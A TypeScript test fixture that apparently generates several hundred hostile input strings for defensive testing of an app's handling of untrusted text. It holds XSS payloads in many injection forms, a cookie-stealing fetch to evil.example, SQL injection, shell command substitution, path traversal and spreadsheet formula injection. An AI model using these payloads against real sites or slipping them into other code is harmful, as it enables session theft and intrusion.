/** What could turn text into something that runs: 300 texts of the kinds docs/choices.md#untrusted-text is about, each different. */

/** What each payload that could run would do: set this on the window. */
export const MARK = 'perpdeckRan'
const js = `window.${MARK}=1`

const scripts: readonly string[] = [
  js,
  `(()=>{${js}})()`,
  `eval("${js}")`,
  `setTimeout("${js}")`,
  `Function("${js}")()`,
  `top.${MARK}=1`,
  `self['${MARK}']=1`,
  `alert(1)`,
  `import("data:text/javascript,${js}")`,
  `fetch("https://evil.example/?"+document.cookie)`,
]

/** Each kind makes a text of a script; ten scripts make 250 of them. */
const kinds: readonly ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `<ScRiPt >${s}</sCrIpT>`,
  (s) => `<img src=x onerror='${s}'>`,
  (s) => `<img src="x" onerror="${s.replaceAll('"', '&quot;')}">`,
  (s) => `"><img src=x onerror='${s}'>`,
  (s) => `' onmouseover='${s}' x='`,
  (s) => `" autofocus onfocus='${s}' x="`,
  (s) => `<svg onload='${s}'>`,
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<svg><animate onbegin='${s}' attributeName=x dur=1s>`,
  (s) => `<svg><foreignObject><img src=x onerror='${s}'></foreignObject></svg>`,
  (s) => `<math><mtext><img src=x onerror='${s}'>`,
  (s) => `<details open ontoggle='${s}'>`,
  (s) => `<iframe srcdoc="<script>${s.replaceAll('"', '&quot;')}</script>">`,
  (s) => `<iframe src="javascript:${s.replaceAll('"', '%22')}">`,
  (s) => `<a href="javascript:${s.replaceAll('"', '%22')}">x</a>`,
  (s) => `javascript:${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (s) => `<base href="https://evil.example/"><!-- ${s} -->`,
  (s) => `<style>@import "https://evil.example/${encodeURIComponent(s)}";</style>`,
  (s) => `<template><img src=x onerror='${s}'></template>`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => '${' + s + '}',
  (s) => `$t(common:cancel) {{symbol}} ${s}`,
]

const others: readonly string[] = [
  // Writing that turns or hides.
  '\u202Etxt.exe',
  '\u202DLTR\u202C',
  '\u2066isolated\u2069',
  'no\u200Bwidth\u200Djoined\u2060',
  '\uFEFFmark',
  '\u061Cعربي',
  'עברית <b>',
  // Lengths.
  'A'.repeat(10_000),
  '<b>'.repeat(3000),
  'W'.repeat(300),
  ' '.repeat(500),
  '\n'.repeat(200),
  'e' + '\u0301'.repeat(200),
  // Characters.
  '😀'.repeat(50),
  '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈',
  'null\u0000byte',
  '\u0007\u001B[31mred',
  '\uD800 lone',
  '\uFFFD\uFFFE',
  '𝕓𝕠𝕝𝕕 ℌ',
  '١٢٣٤٫٥',
  // Names and paths that mean something to programs.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '../../etc/passwd',
  '..%2f..%2fuser',
  '%00',
  '%3Cscript%3E',
  '//evil.example',
  '/\\evil.example',
  "'; DROP TABLE orders; --",
  '" OR ""="',
  '$(reboot)',
  '`reboot`',
  '=HYPERLINK("https://evil.example")',
  '+1+cmd|calc',
  '@SUM(1)',
  'NaN',
  'undefined',
  'null',
  'true',
  '[object Object]',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '&nbsp;',
  ']]>',
  '-->',
  '<!--',
  '<![CDATA[x',
]

export const payloads: readonly string[] = [
  ...kinds.flatMap((kind) => scripts.map((script) => kind(script))),
  ...others,
]
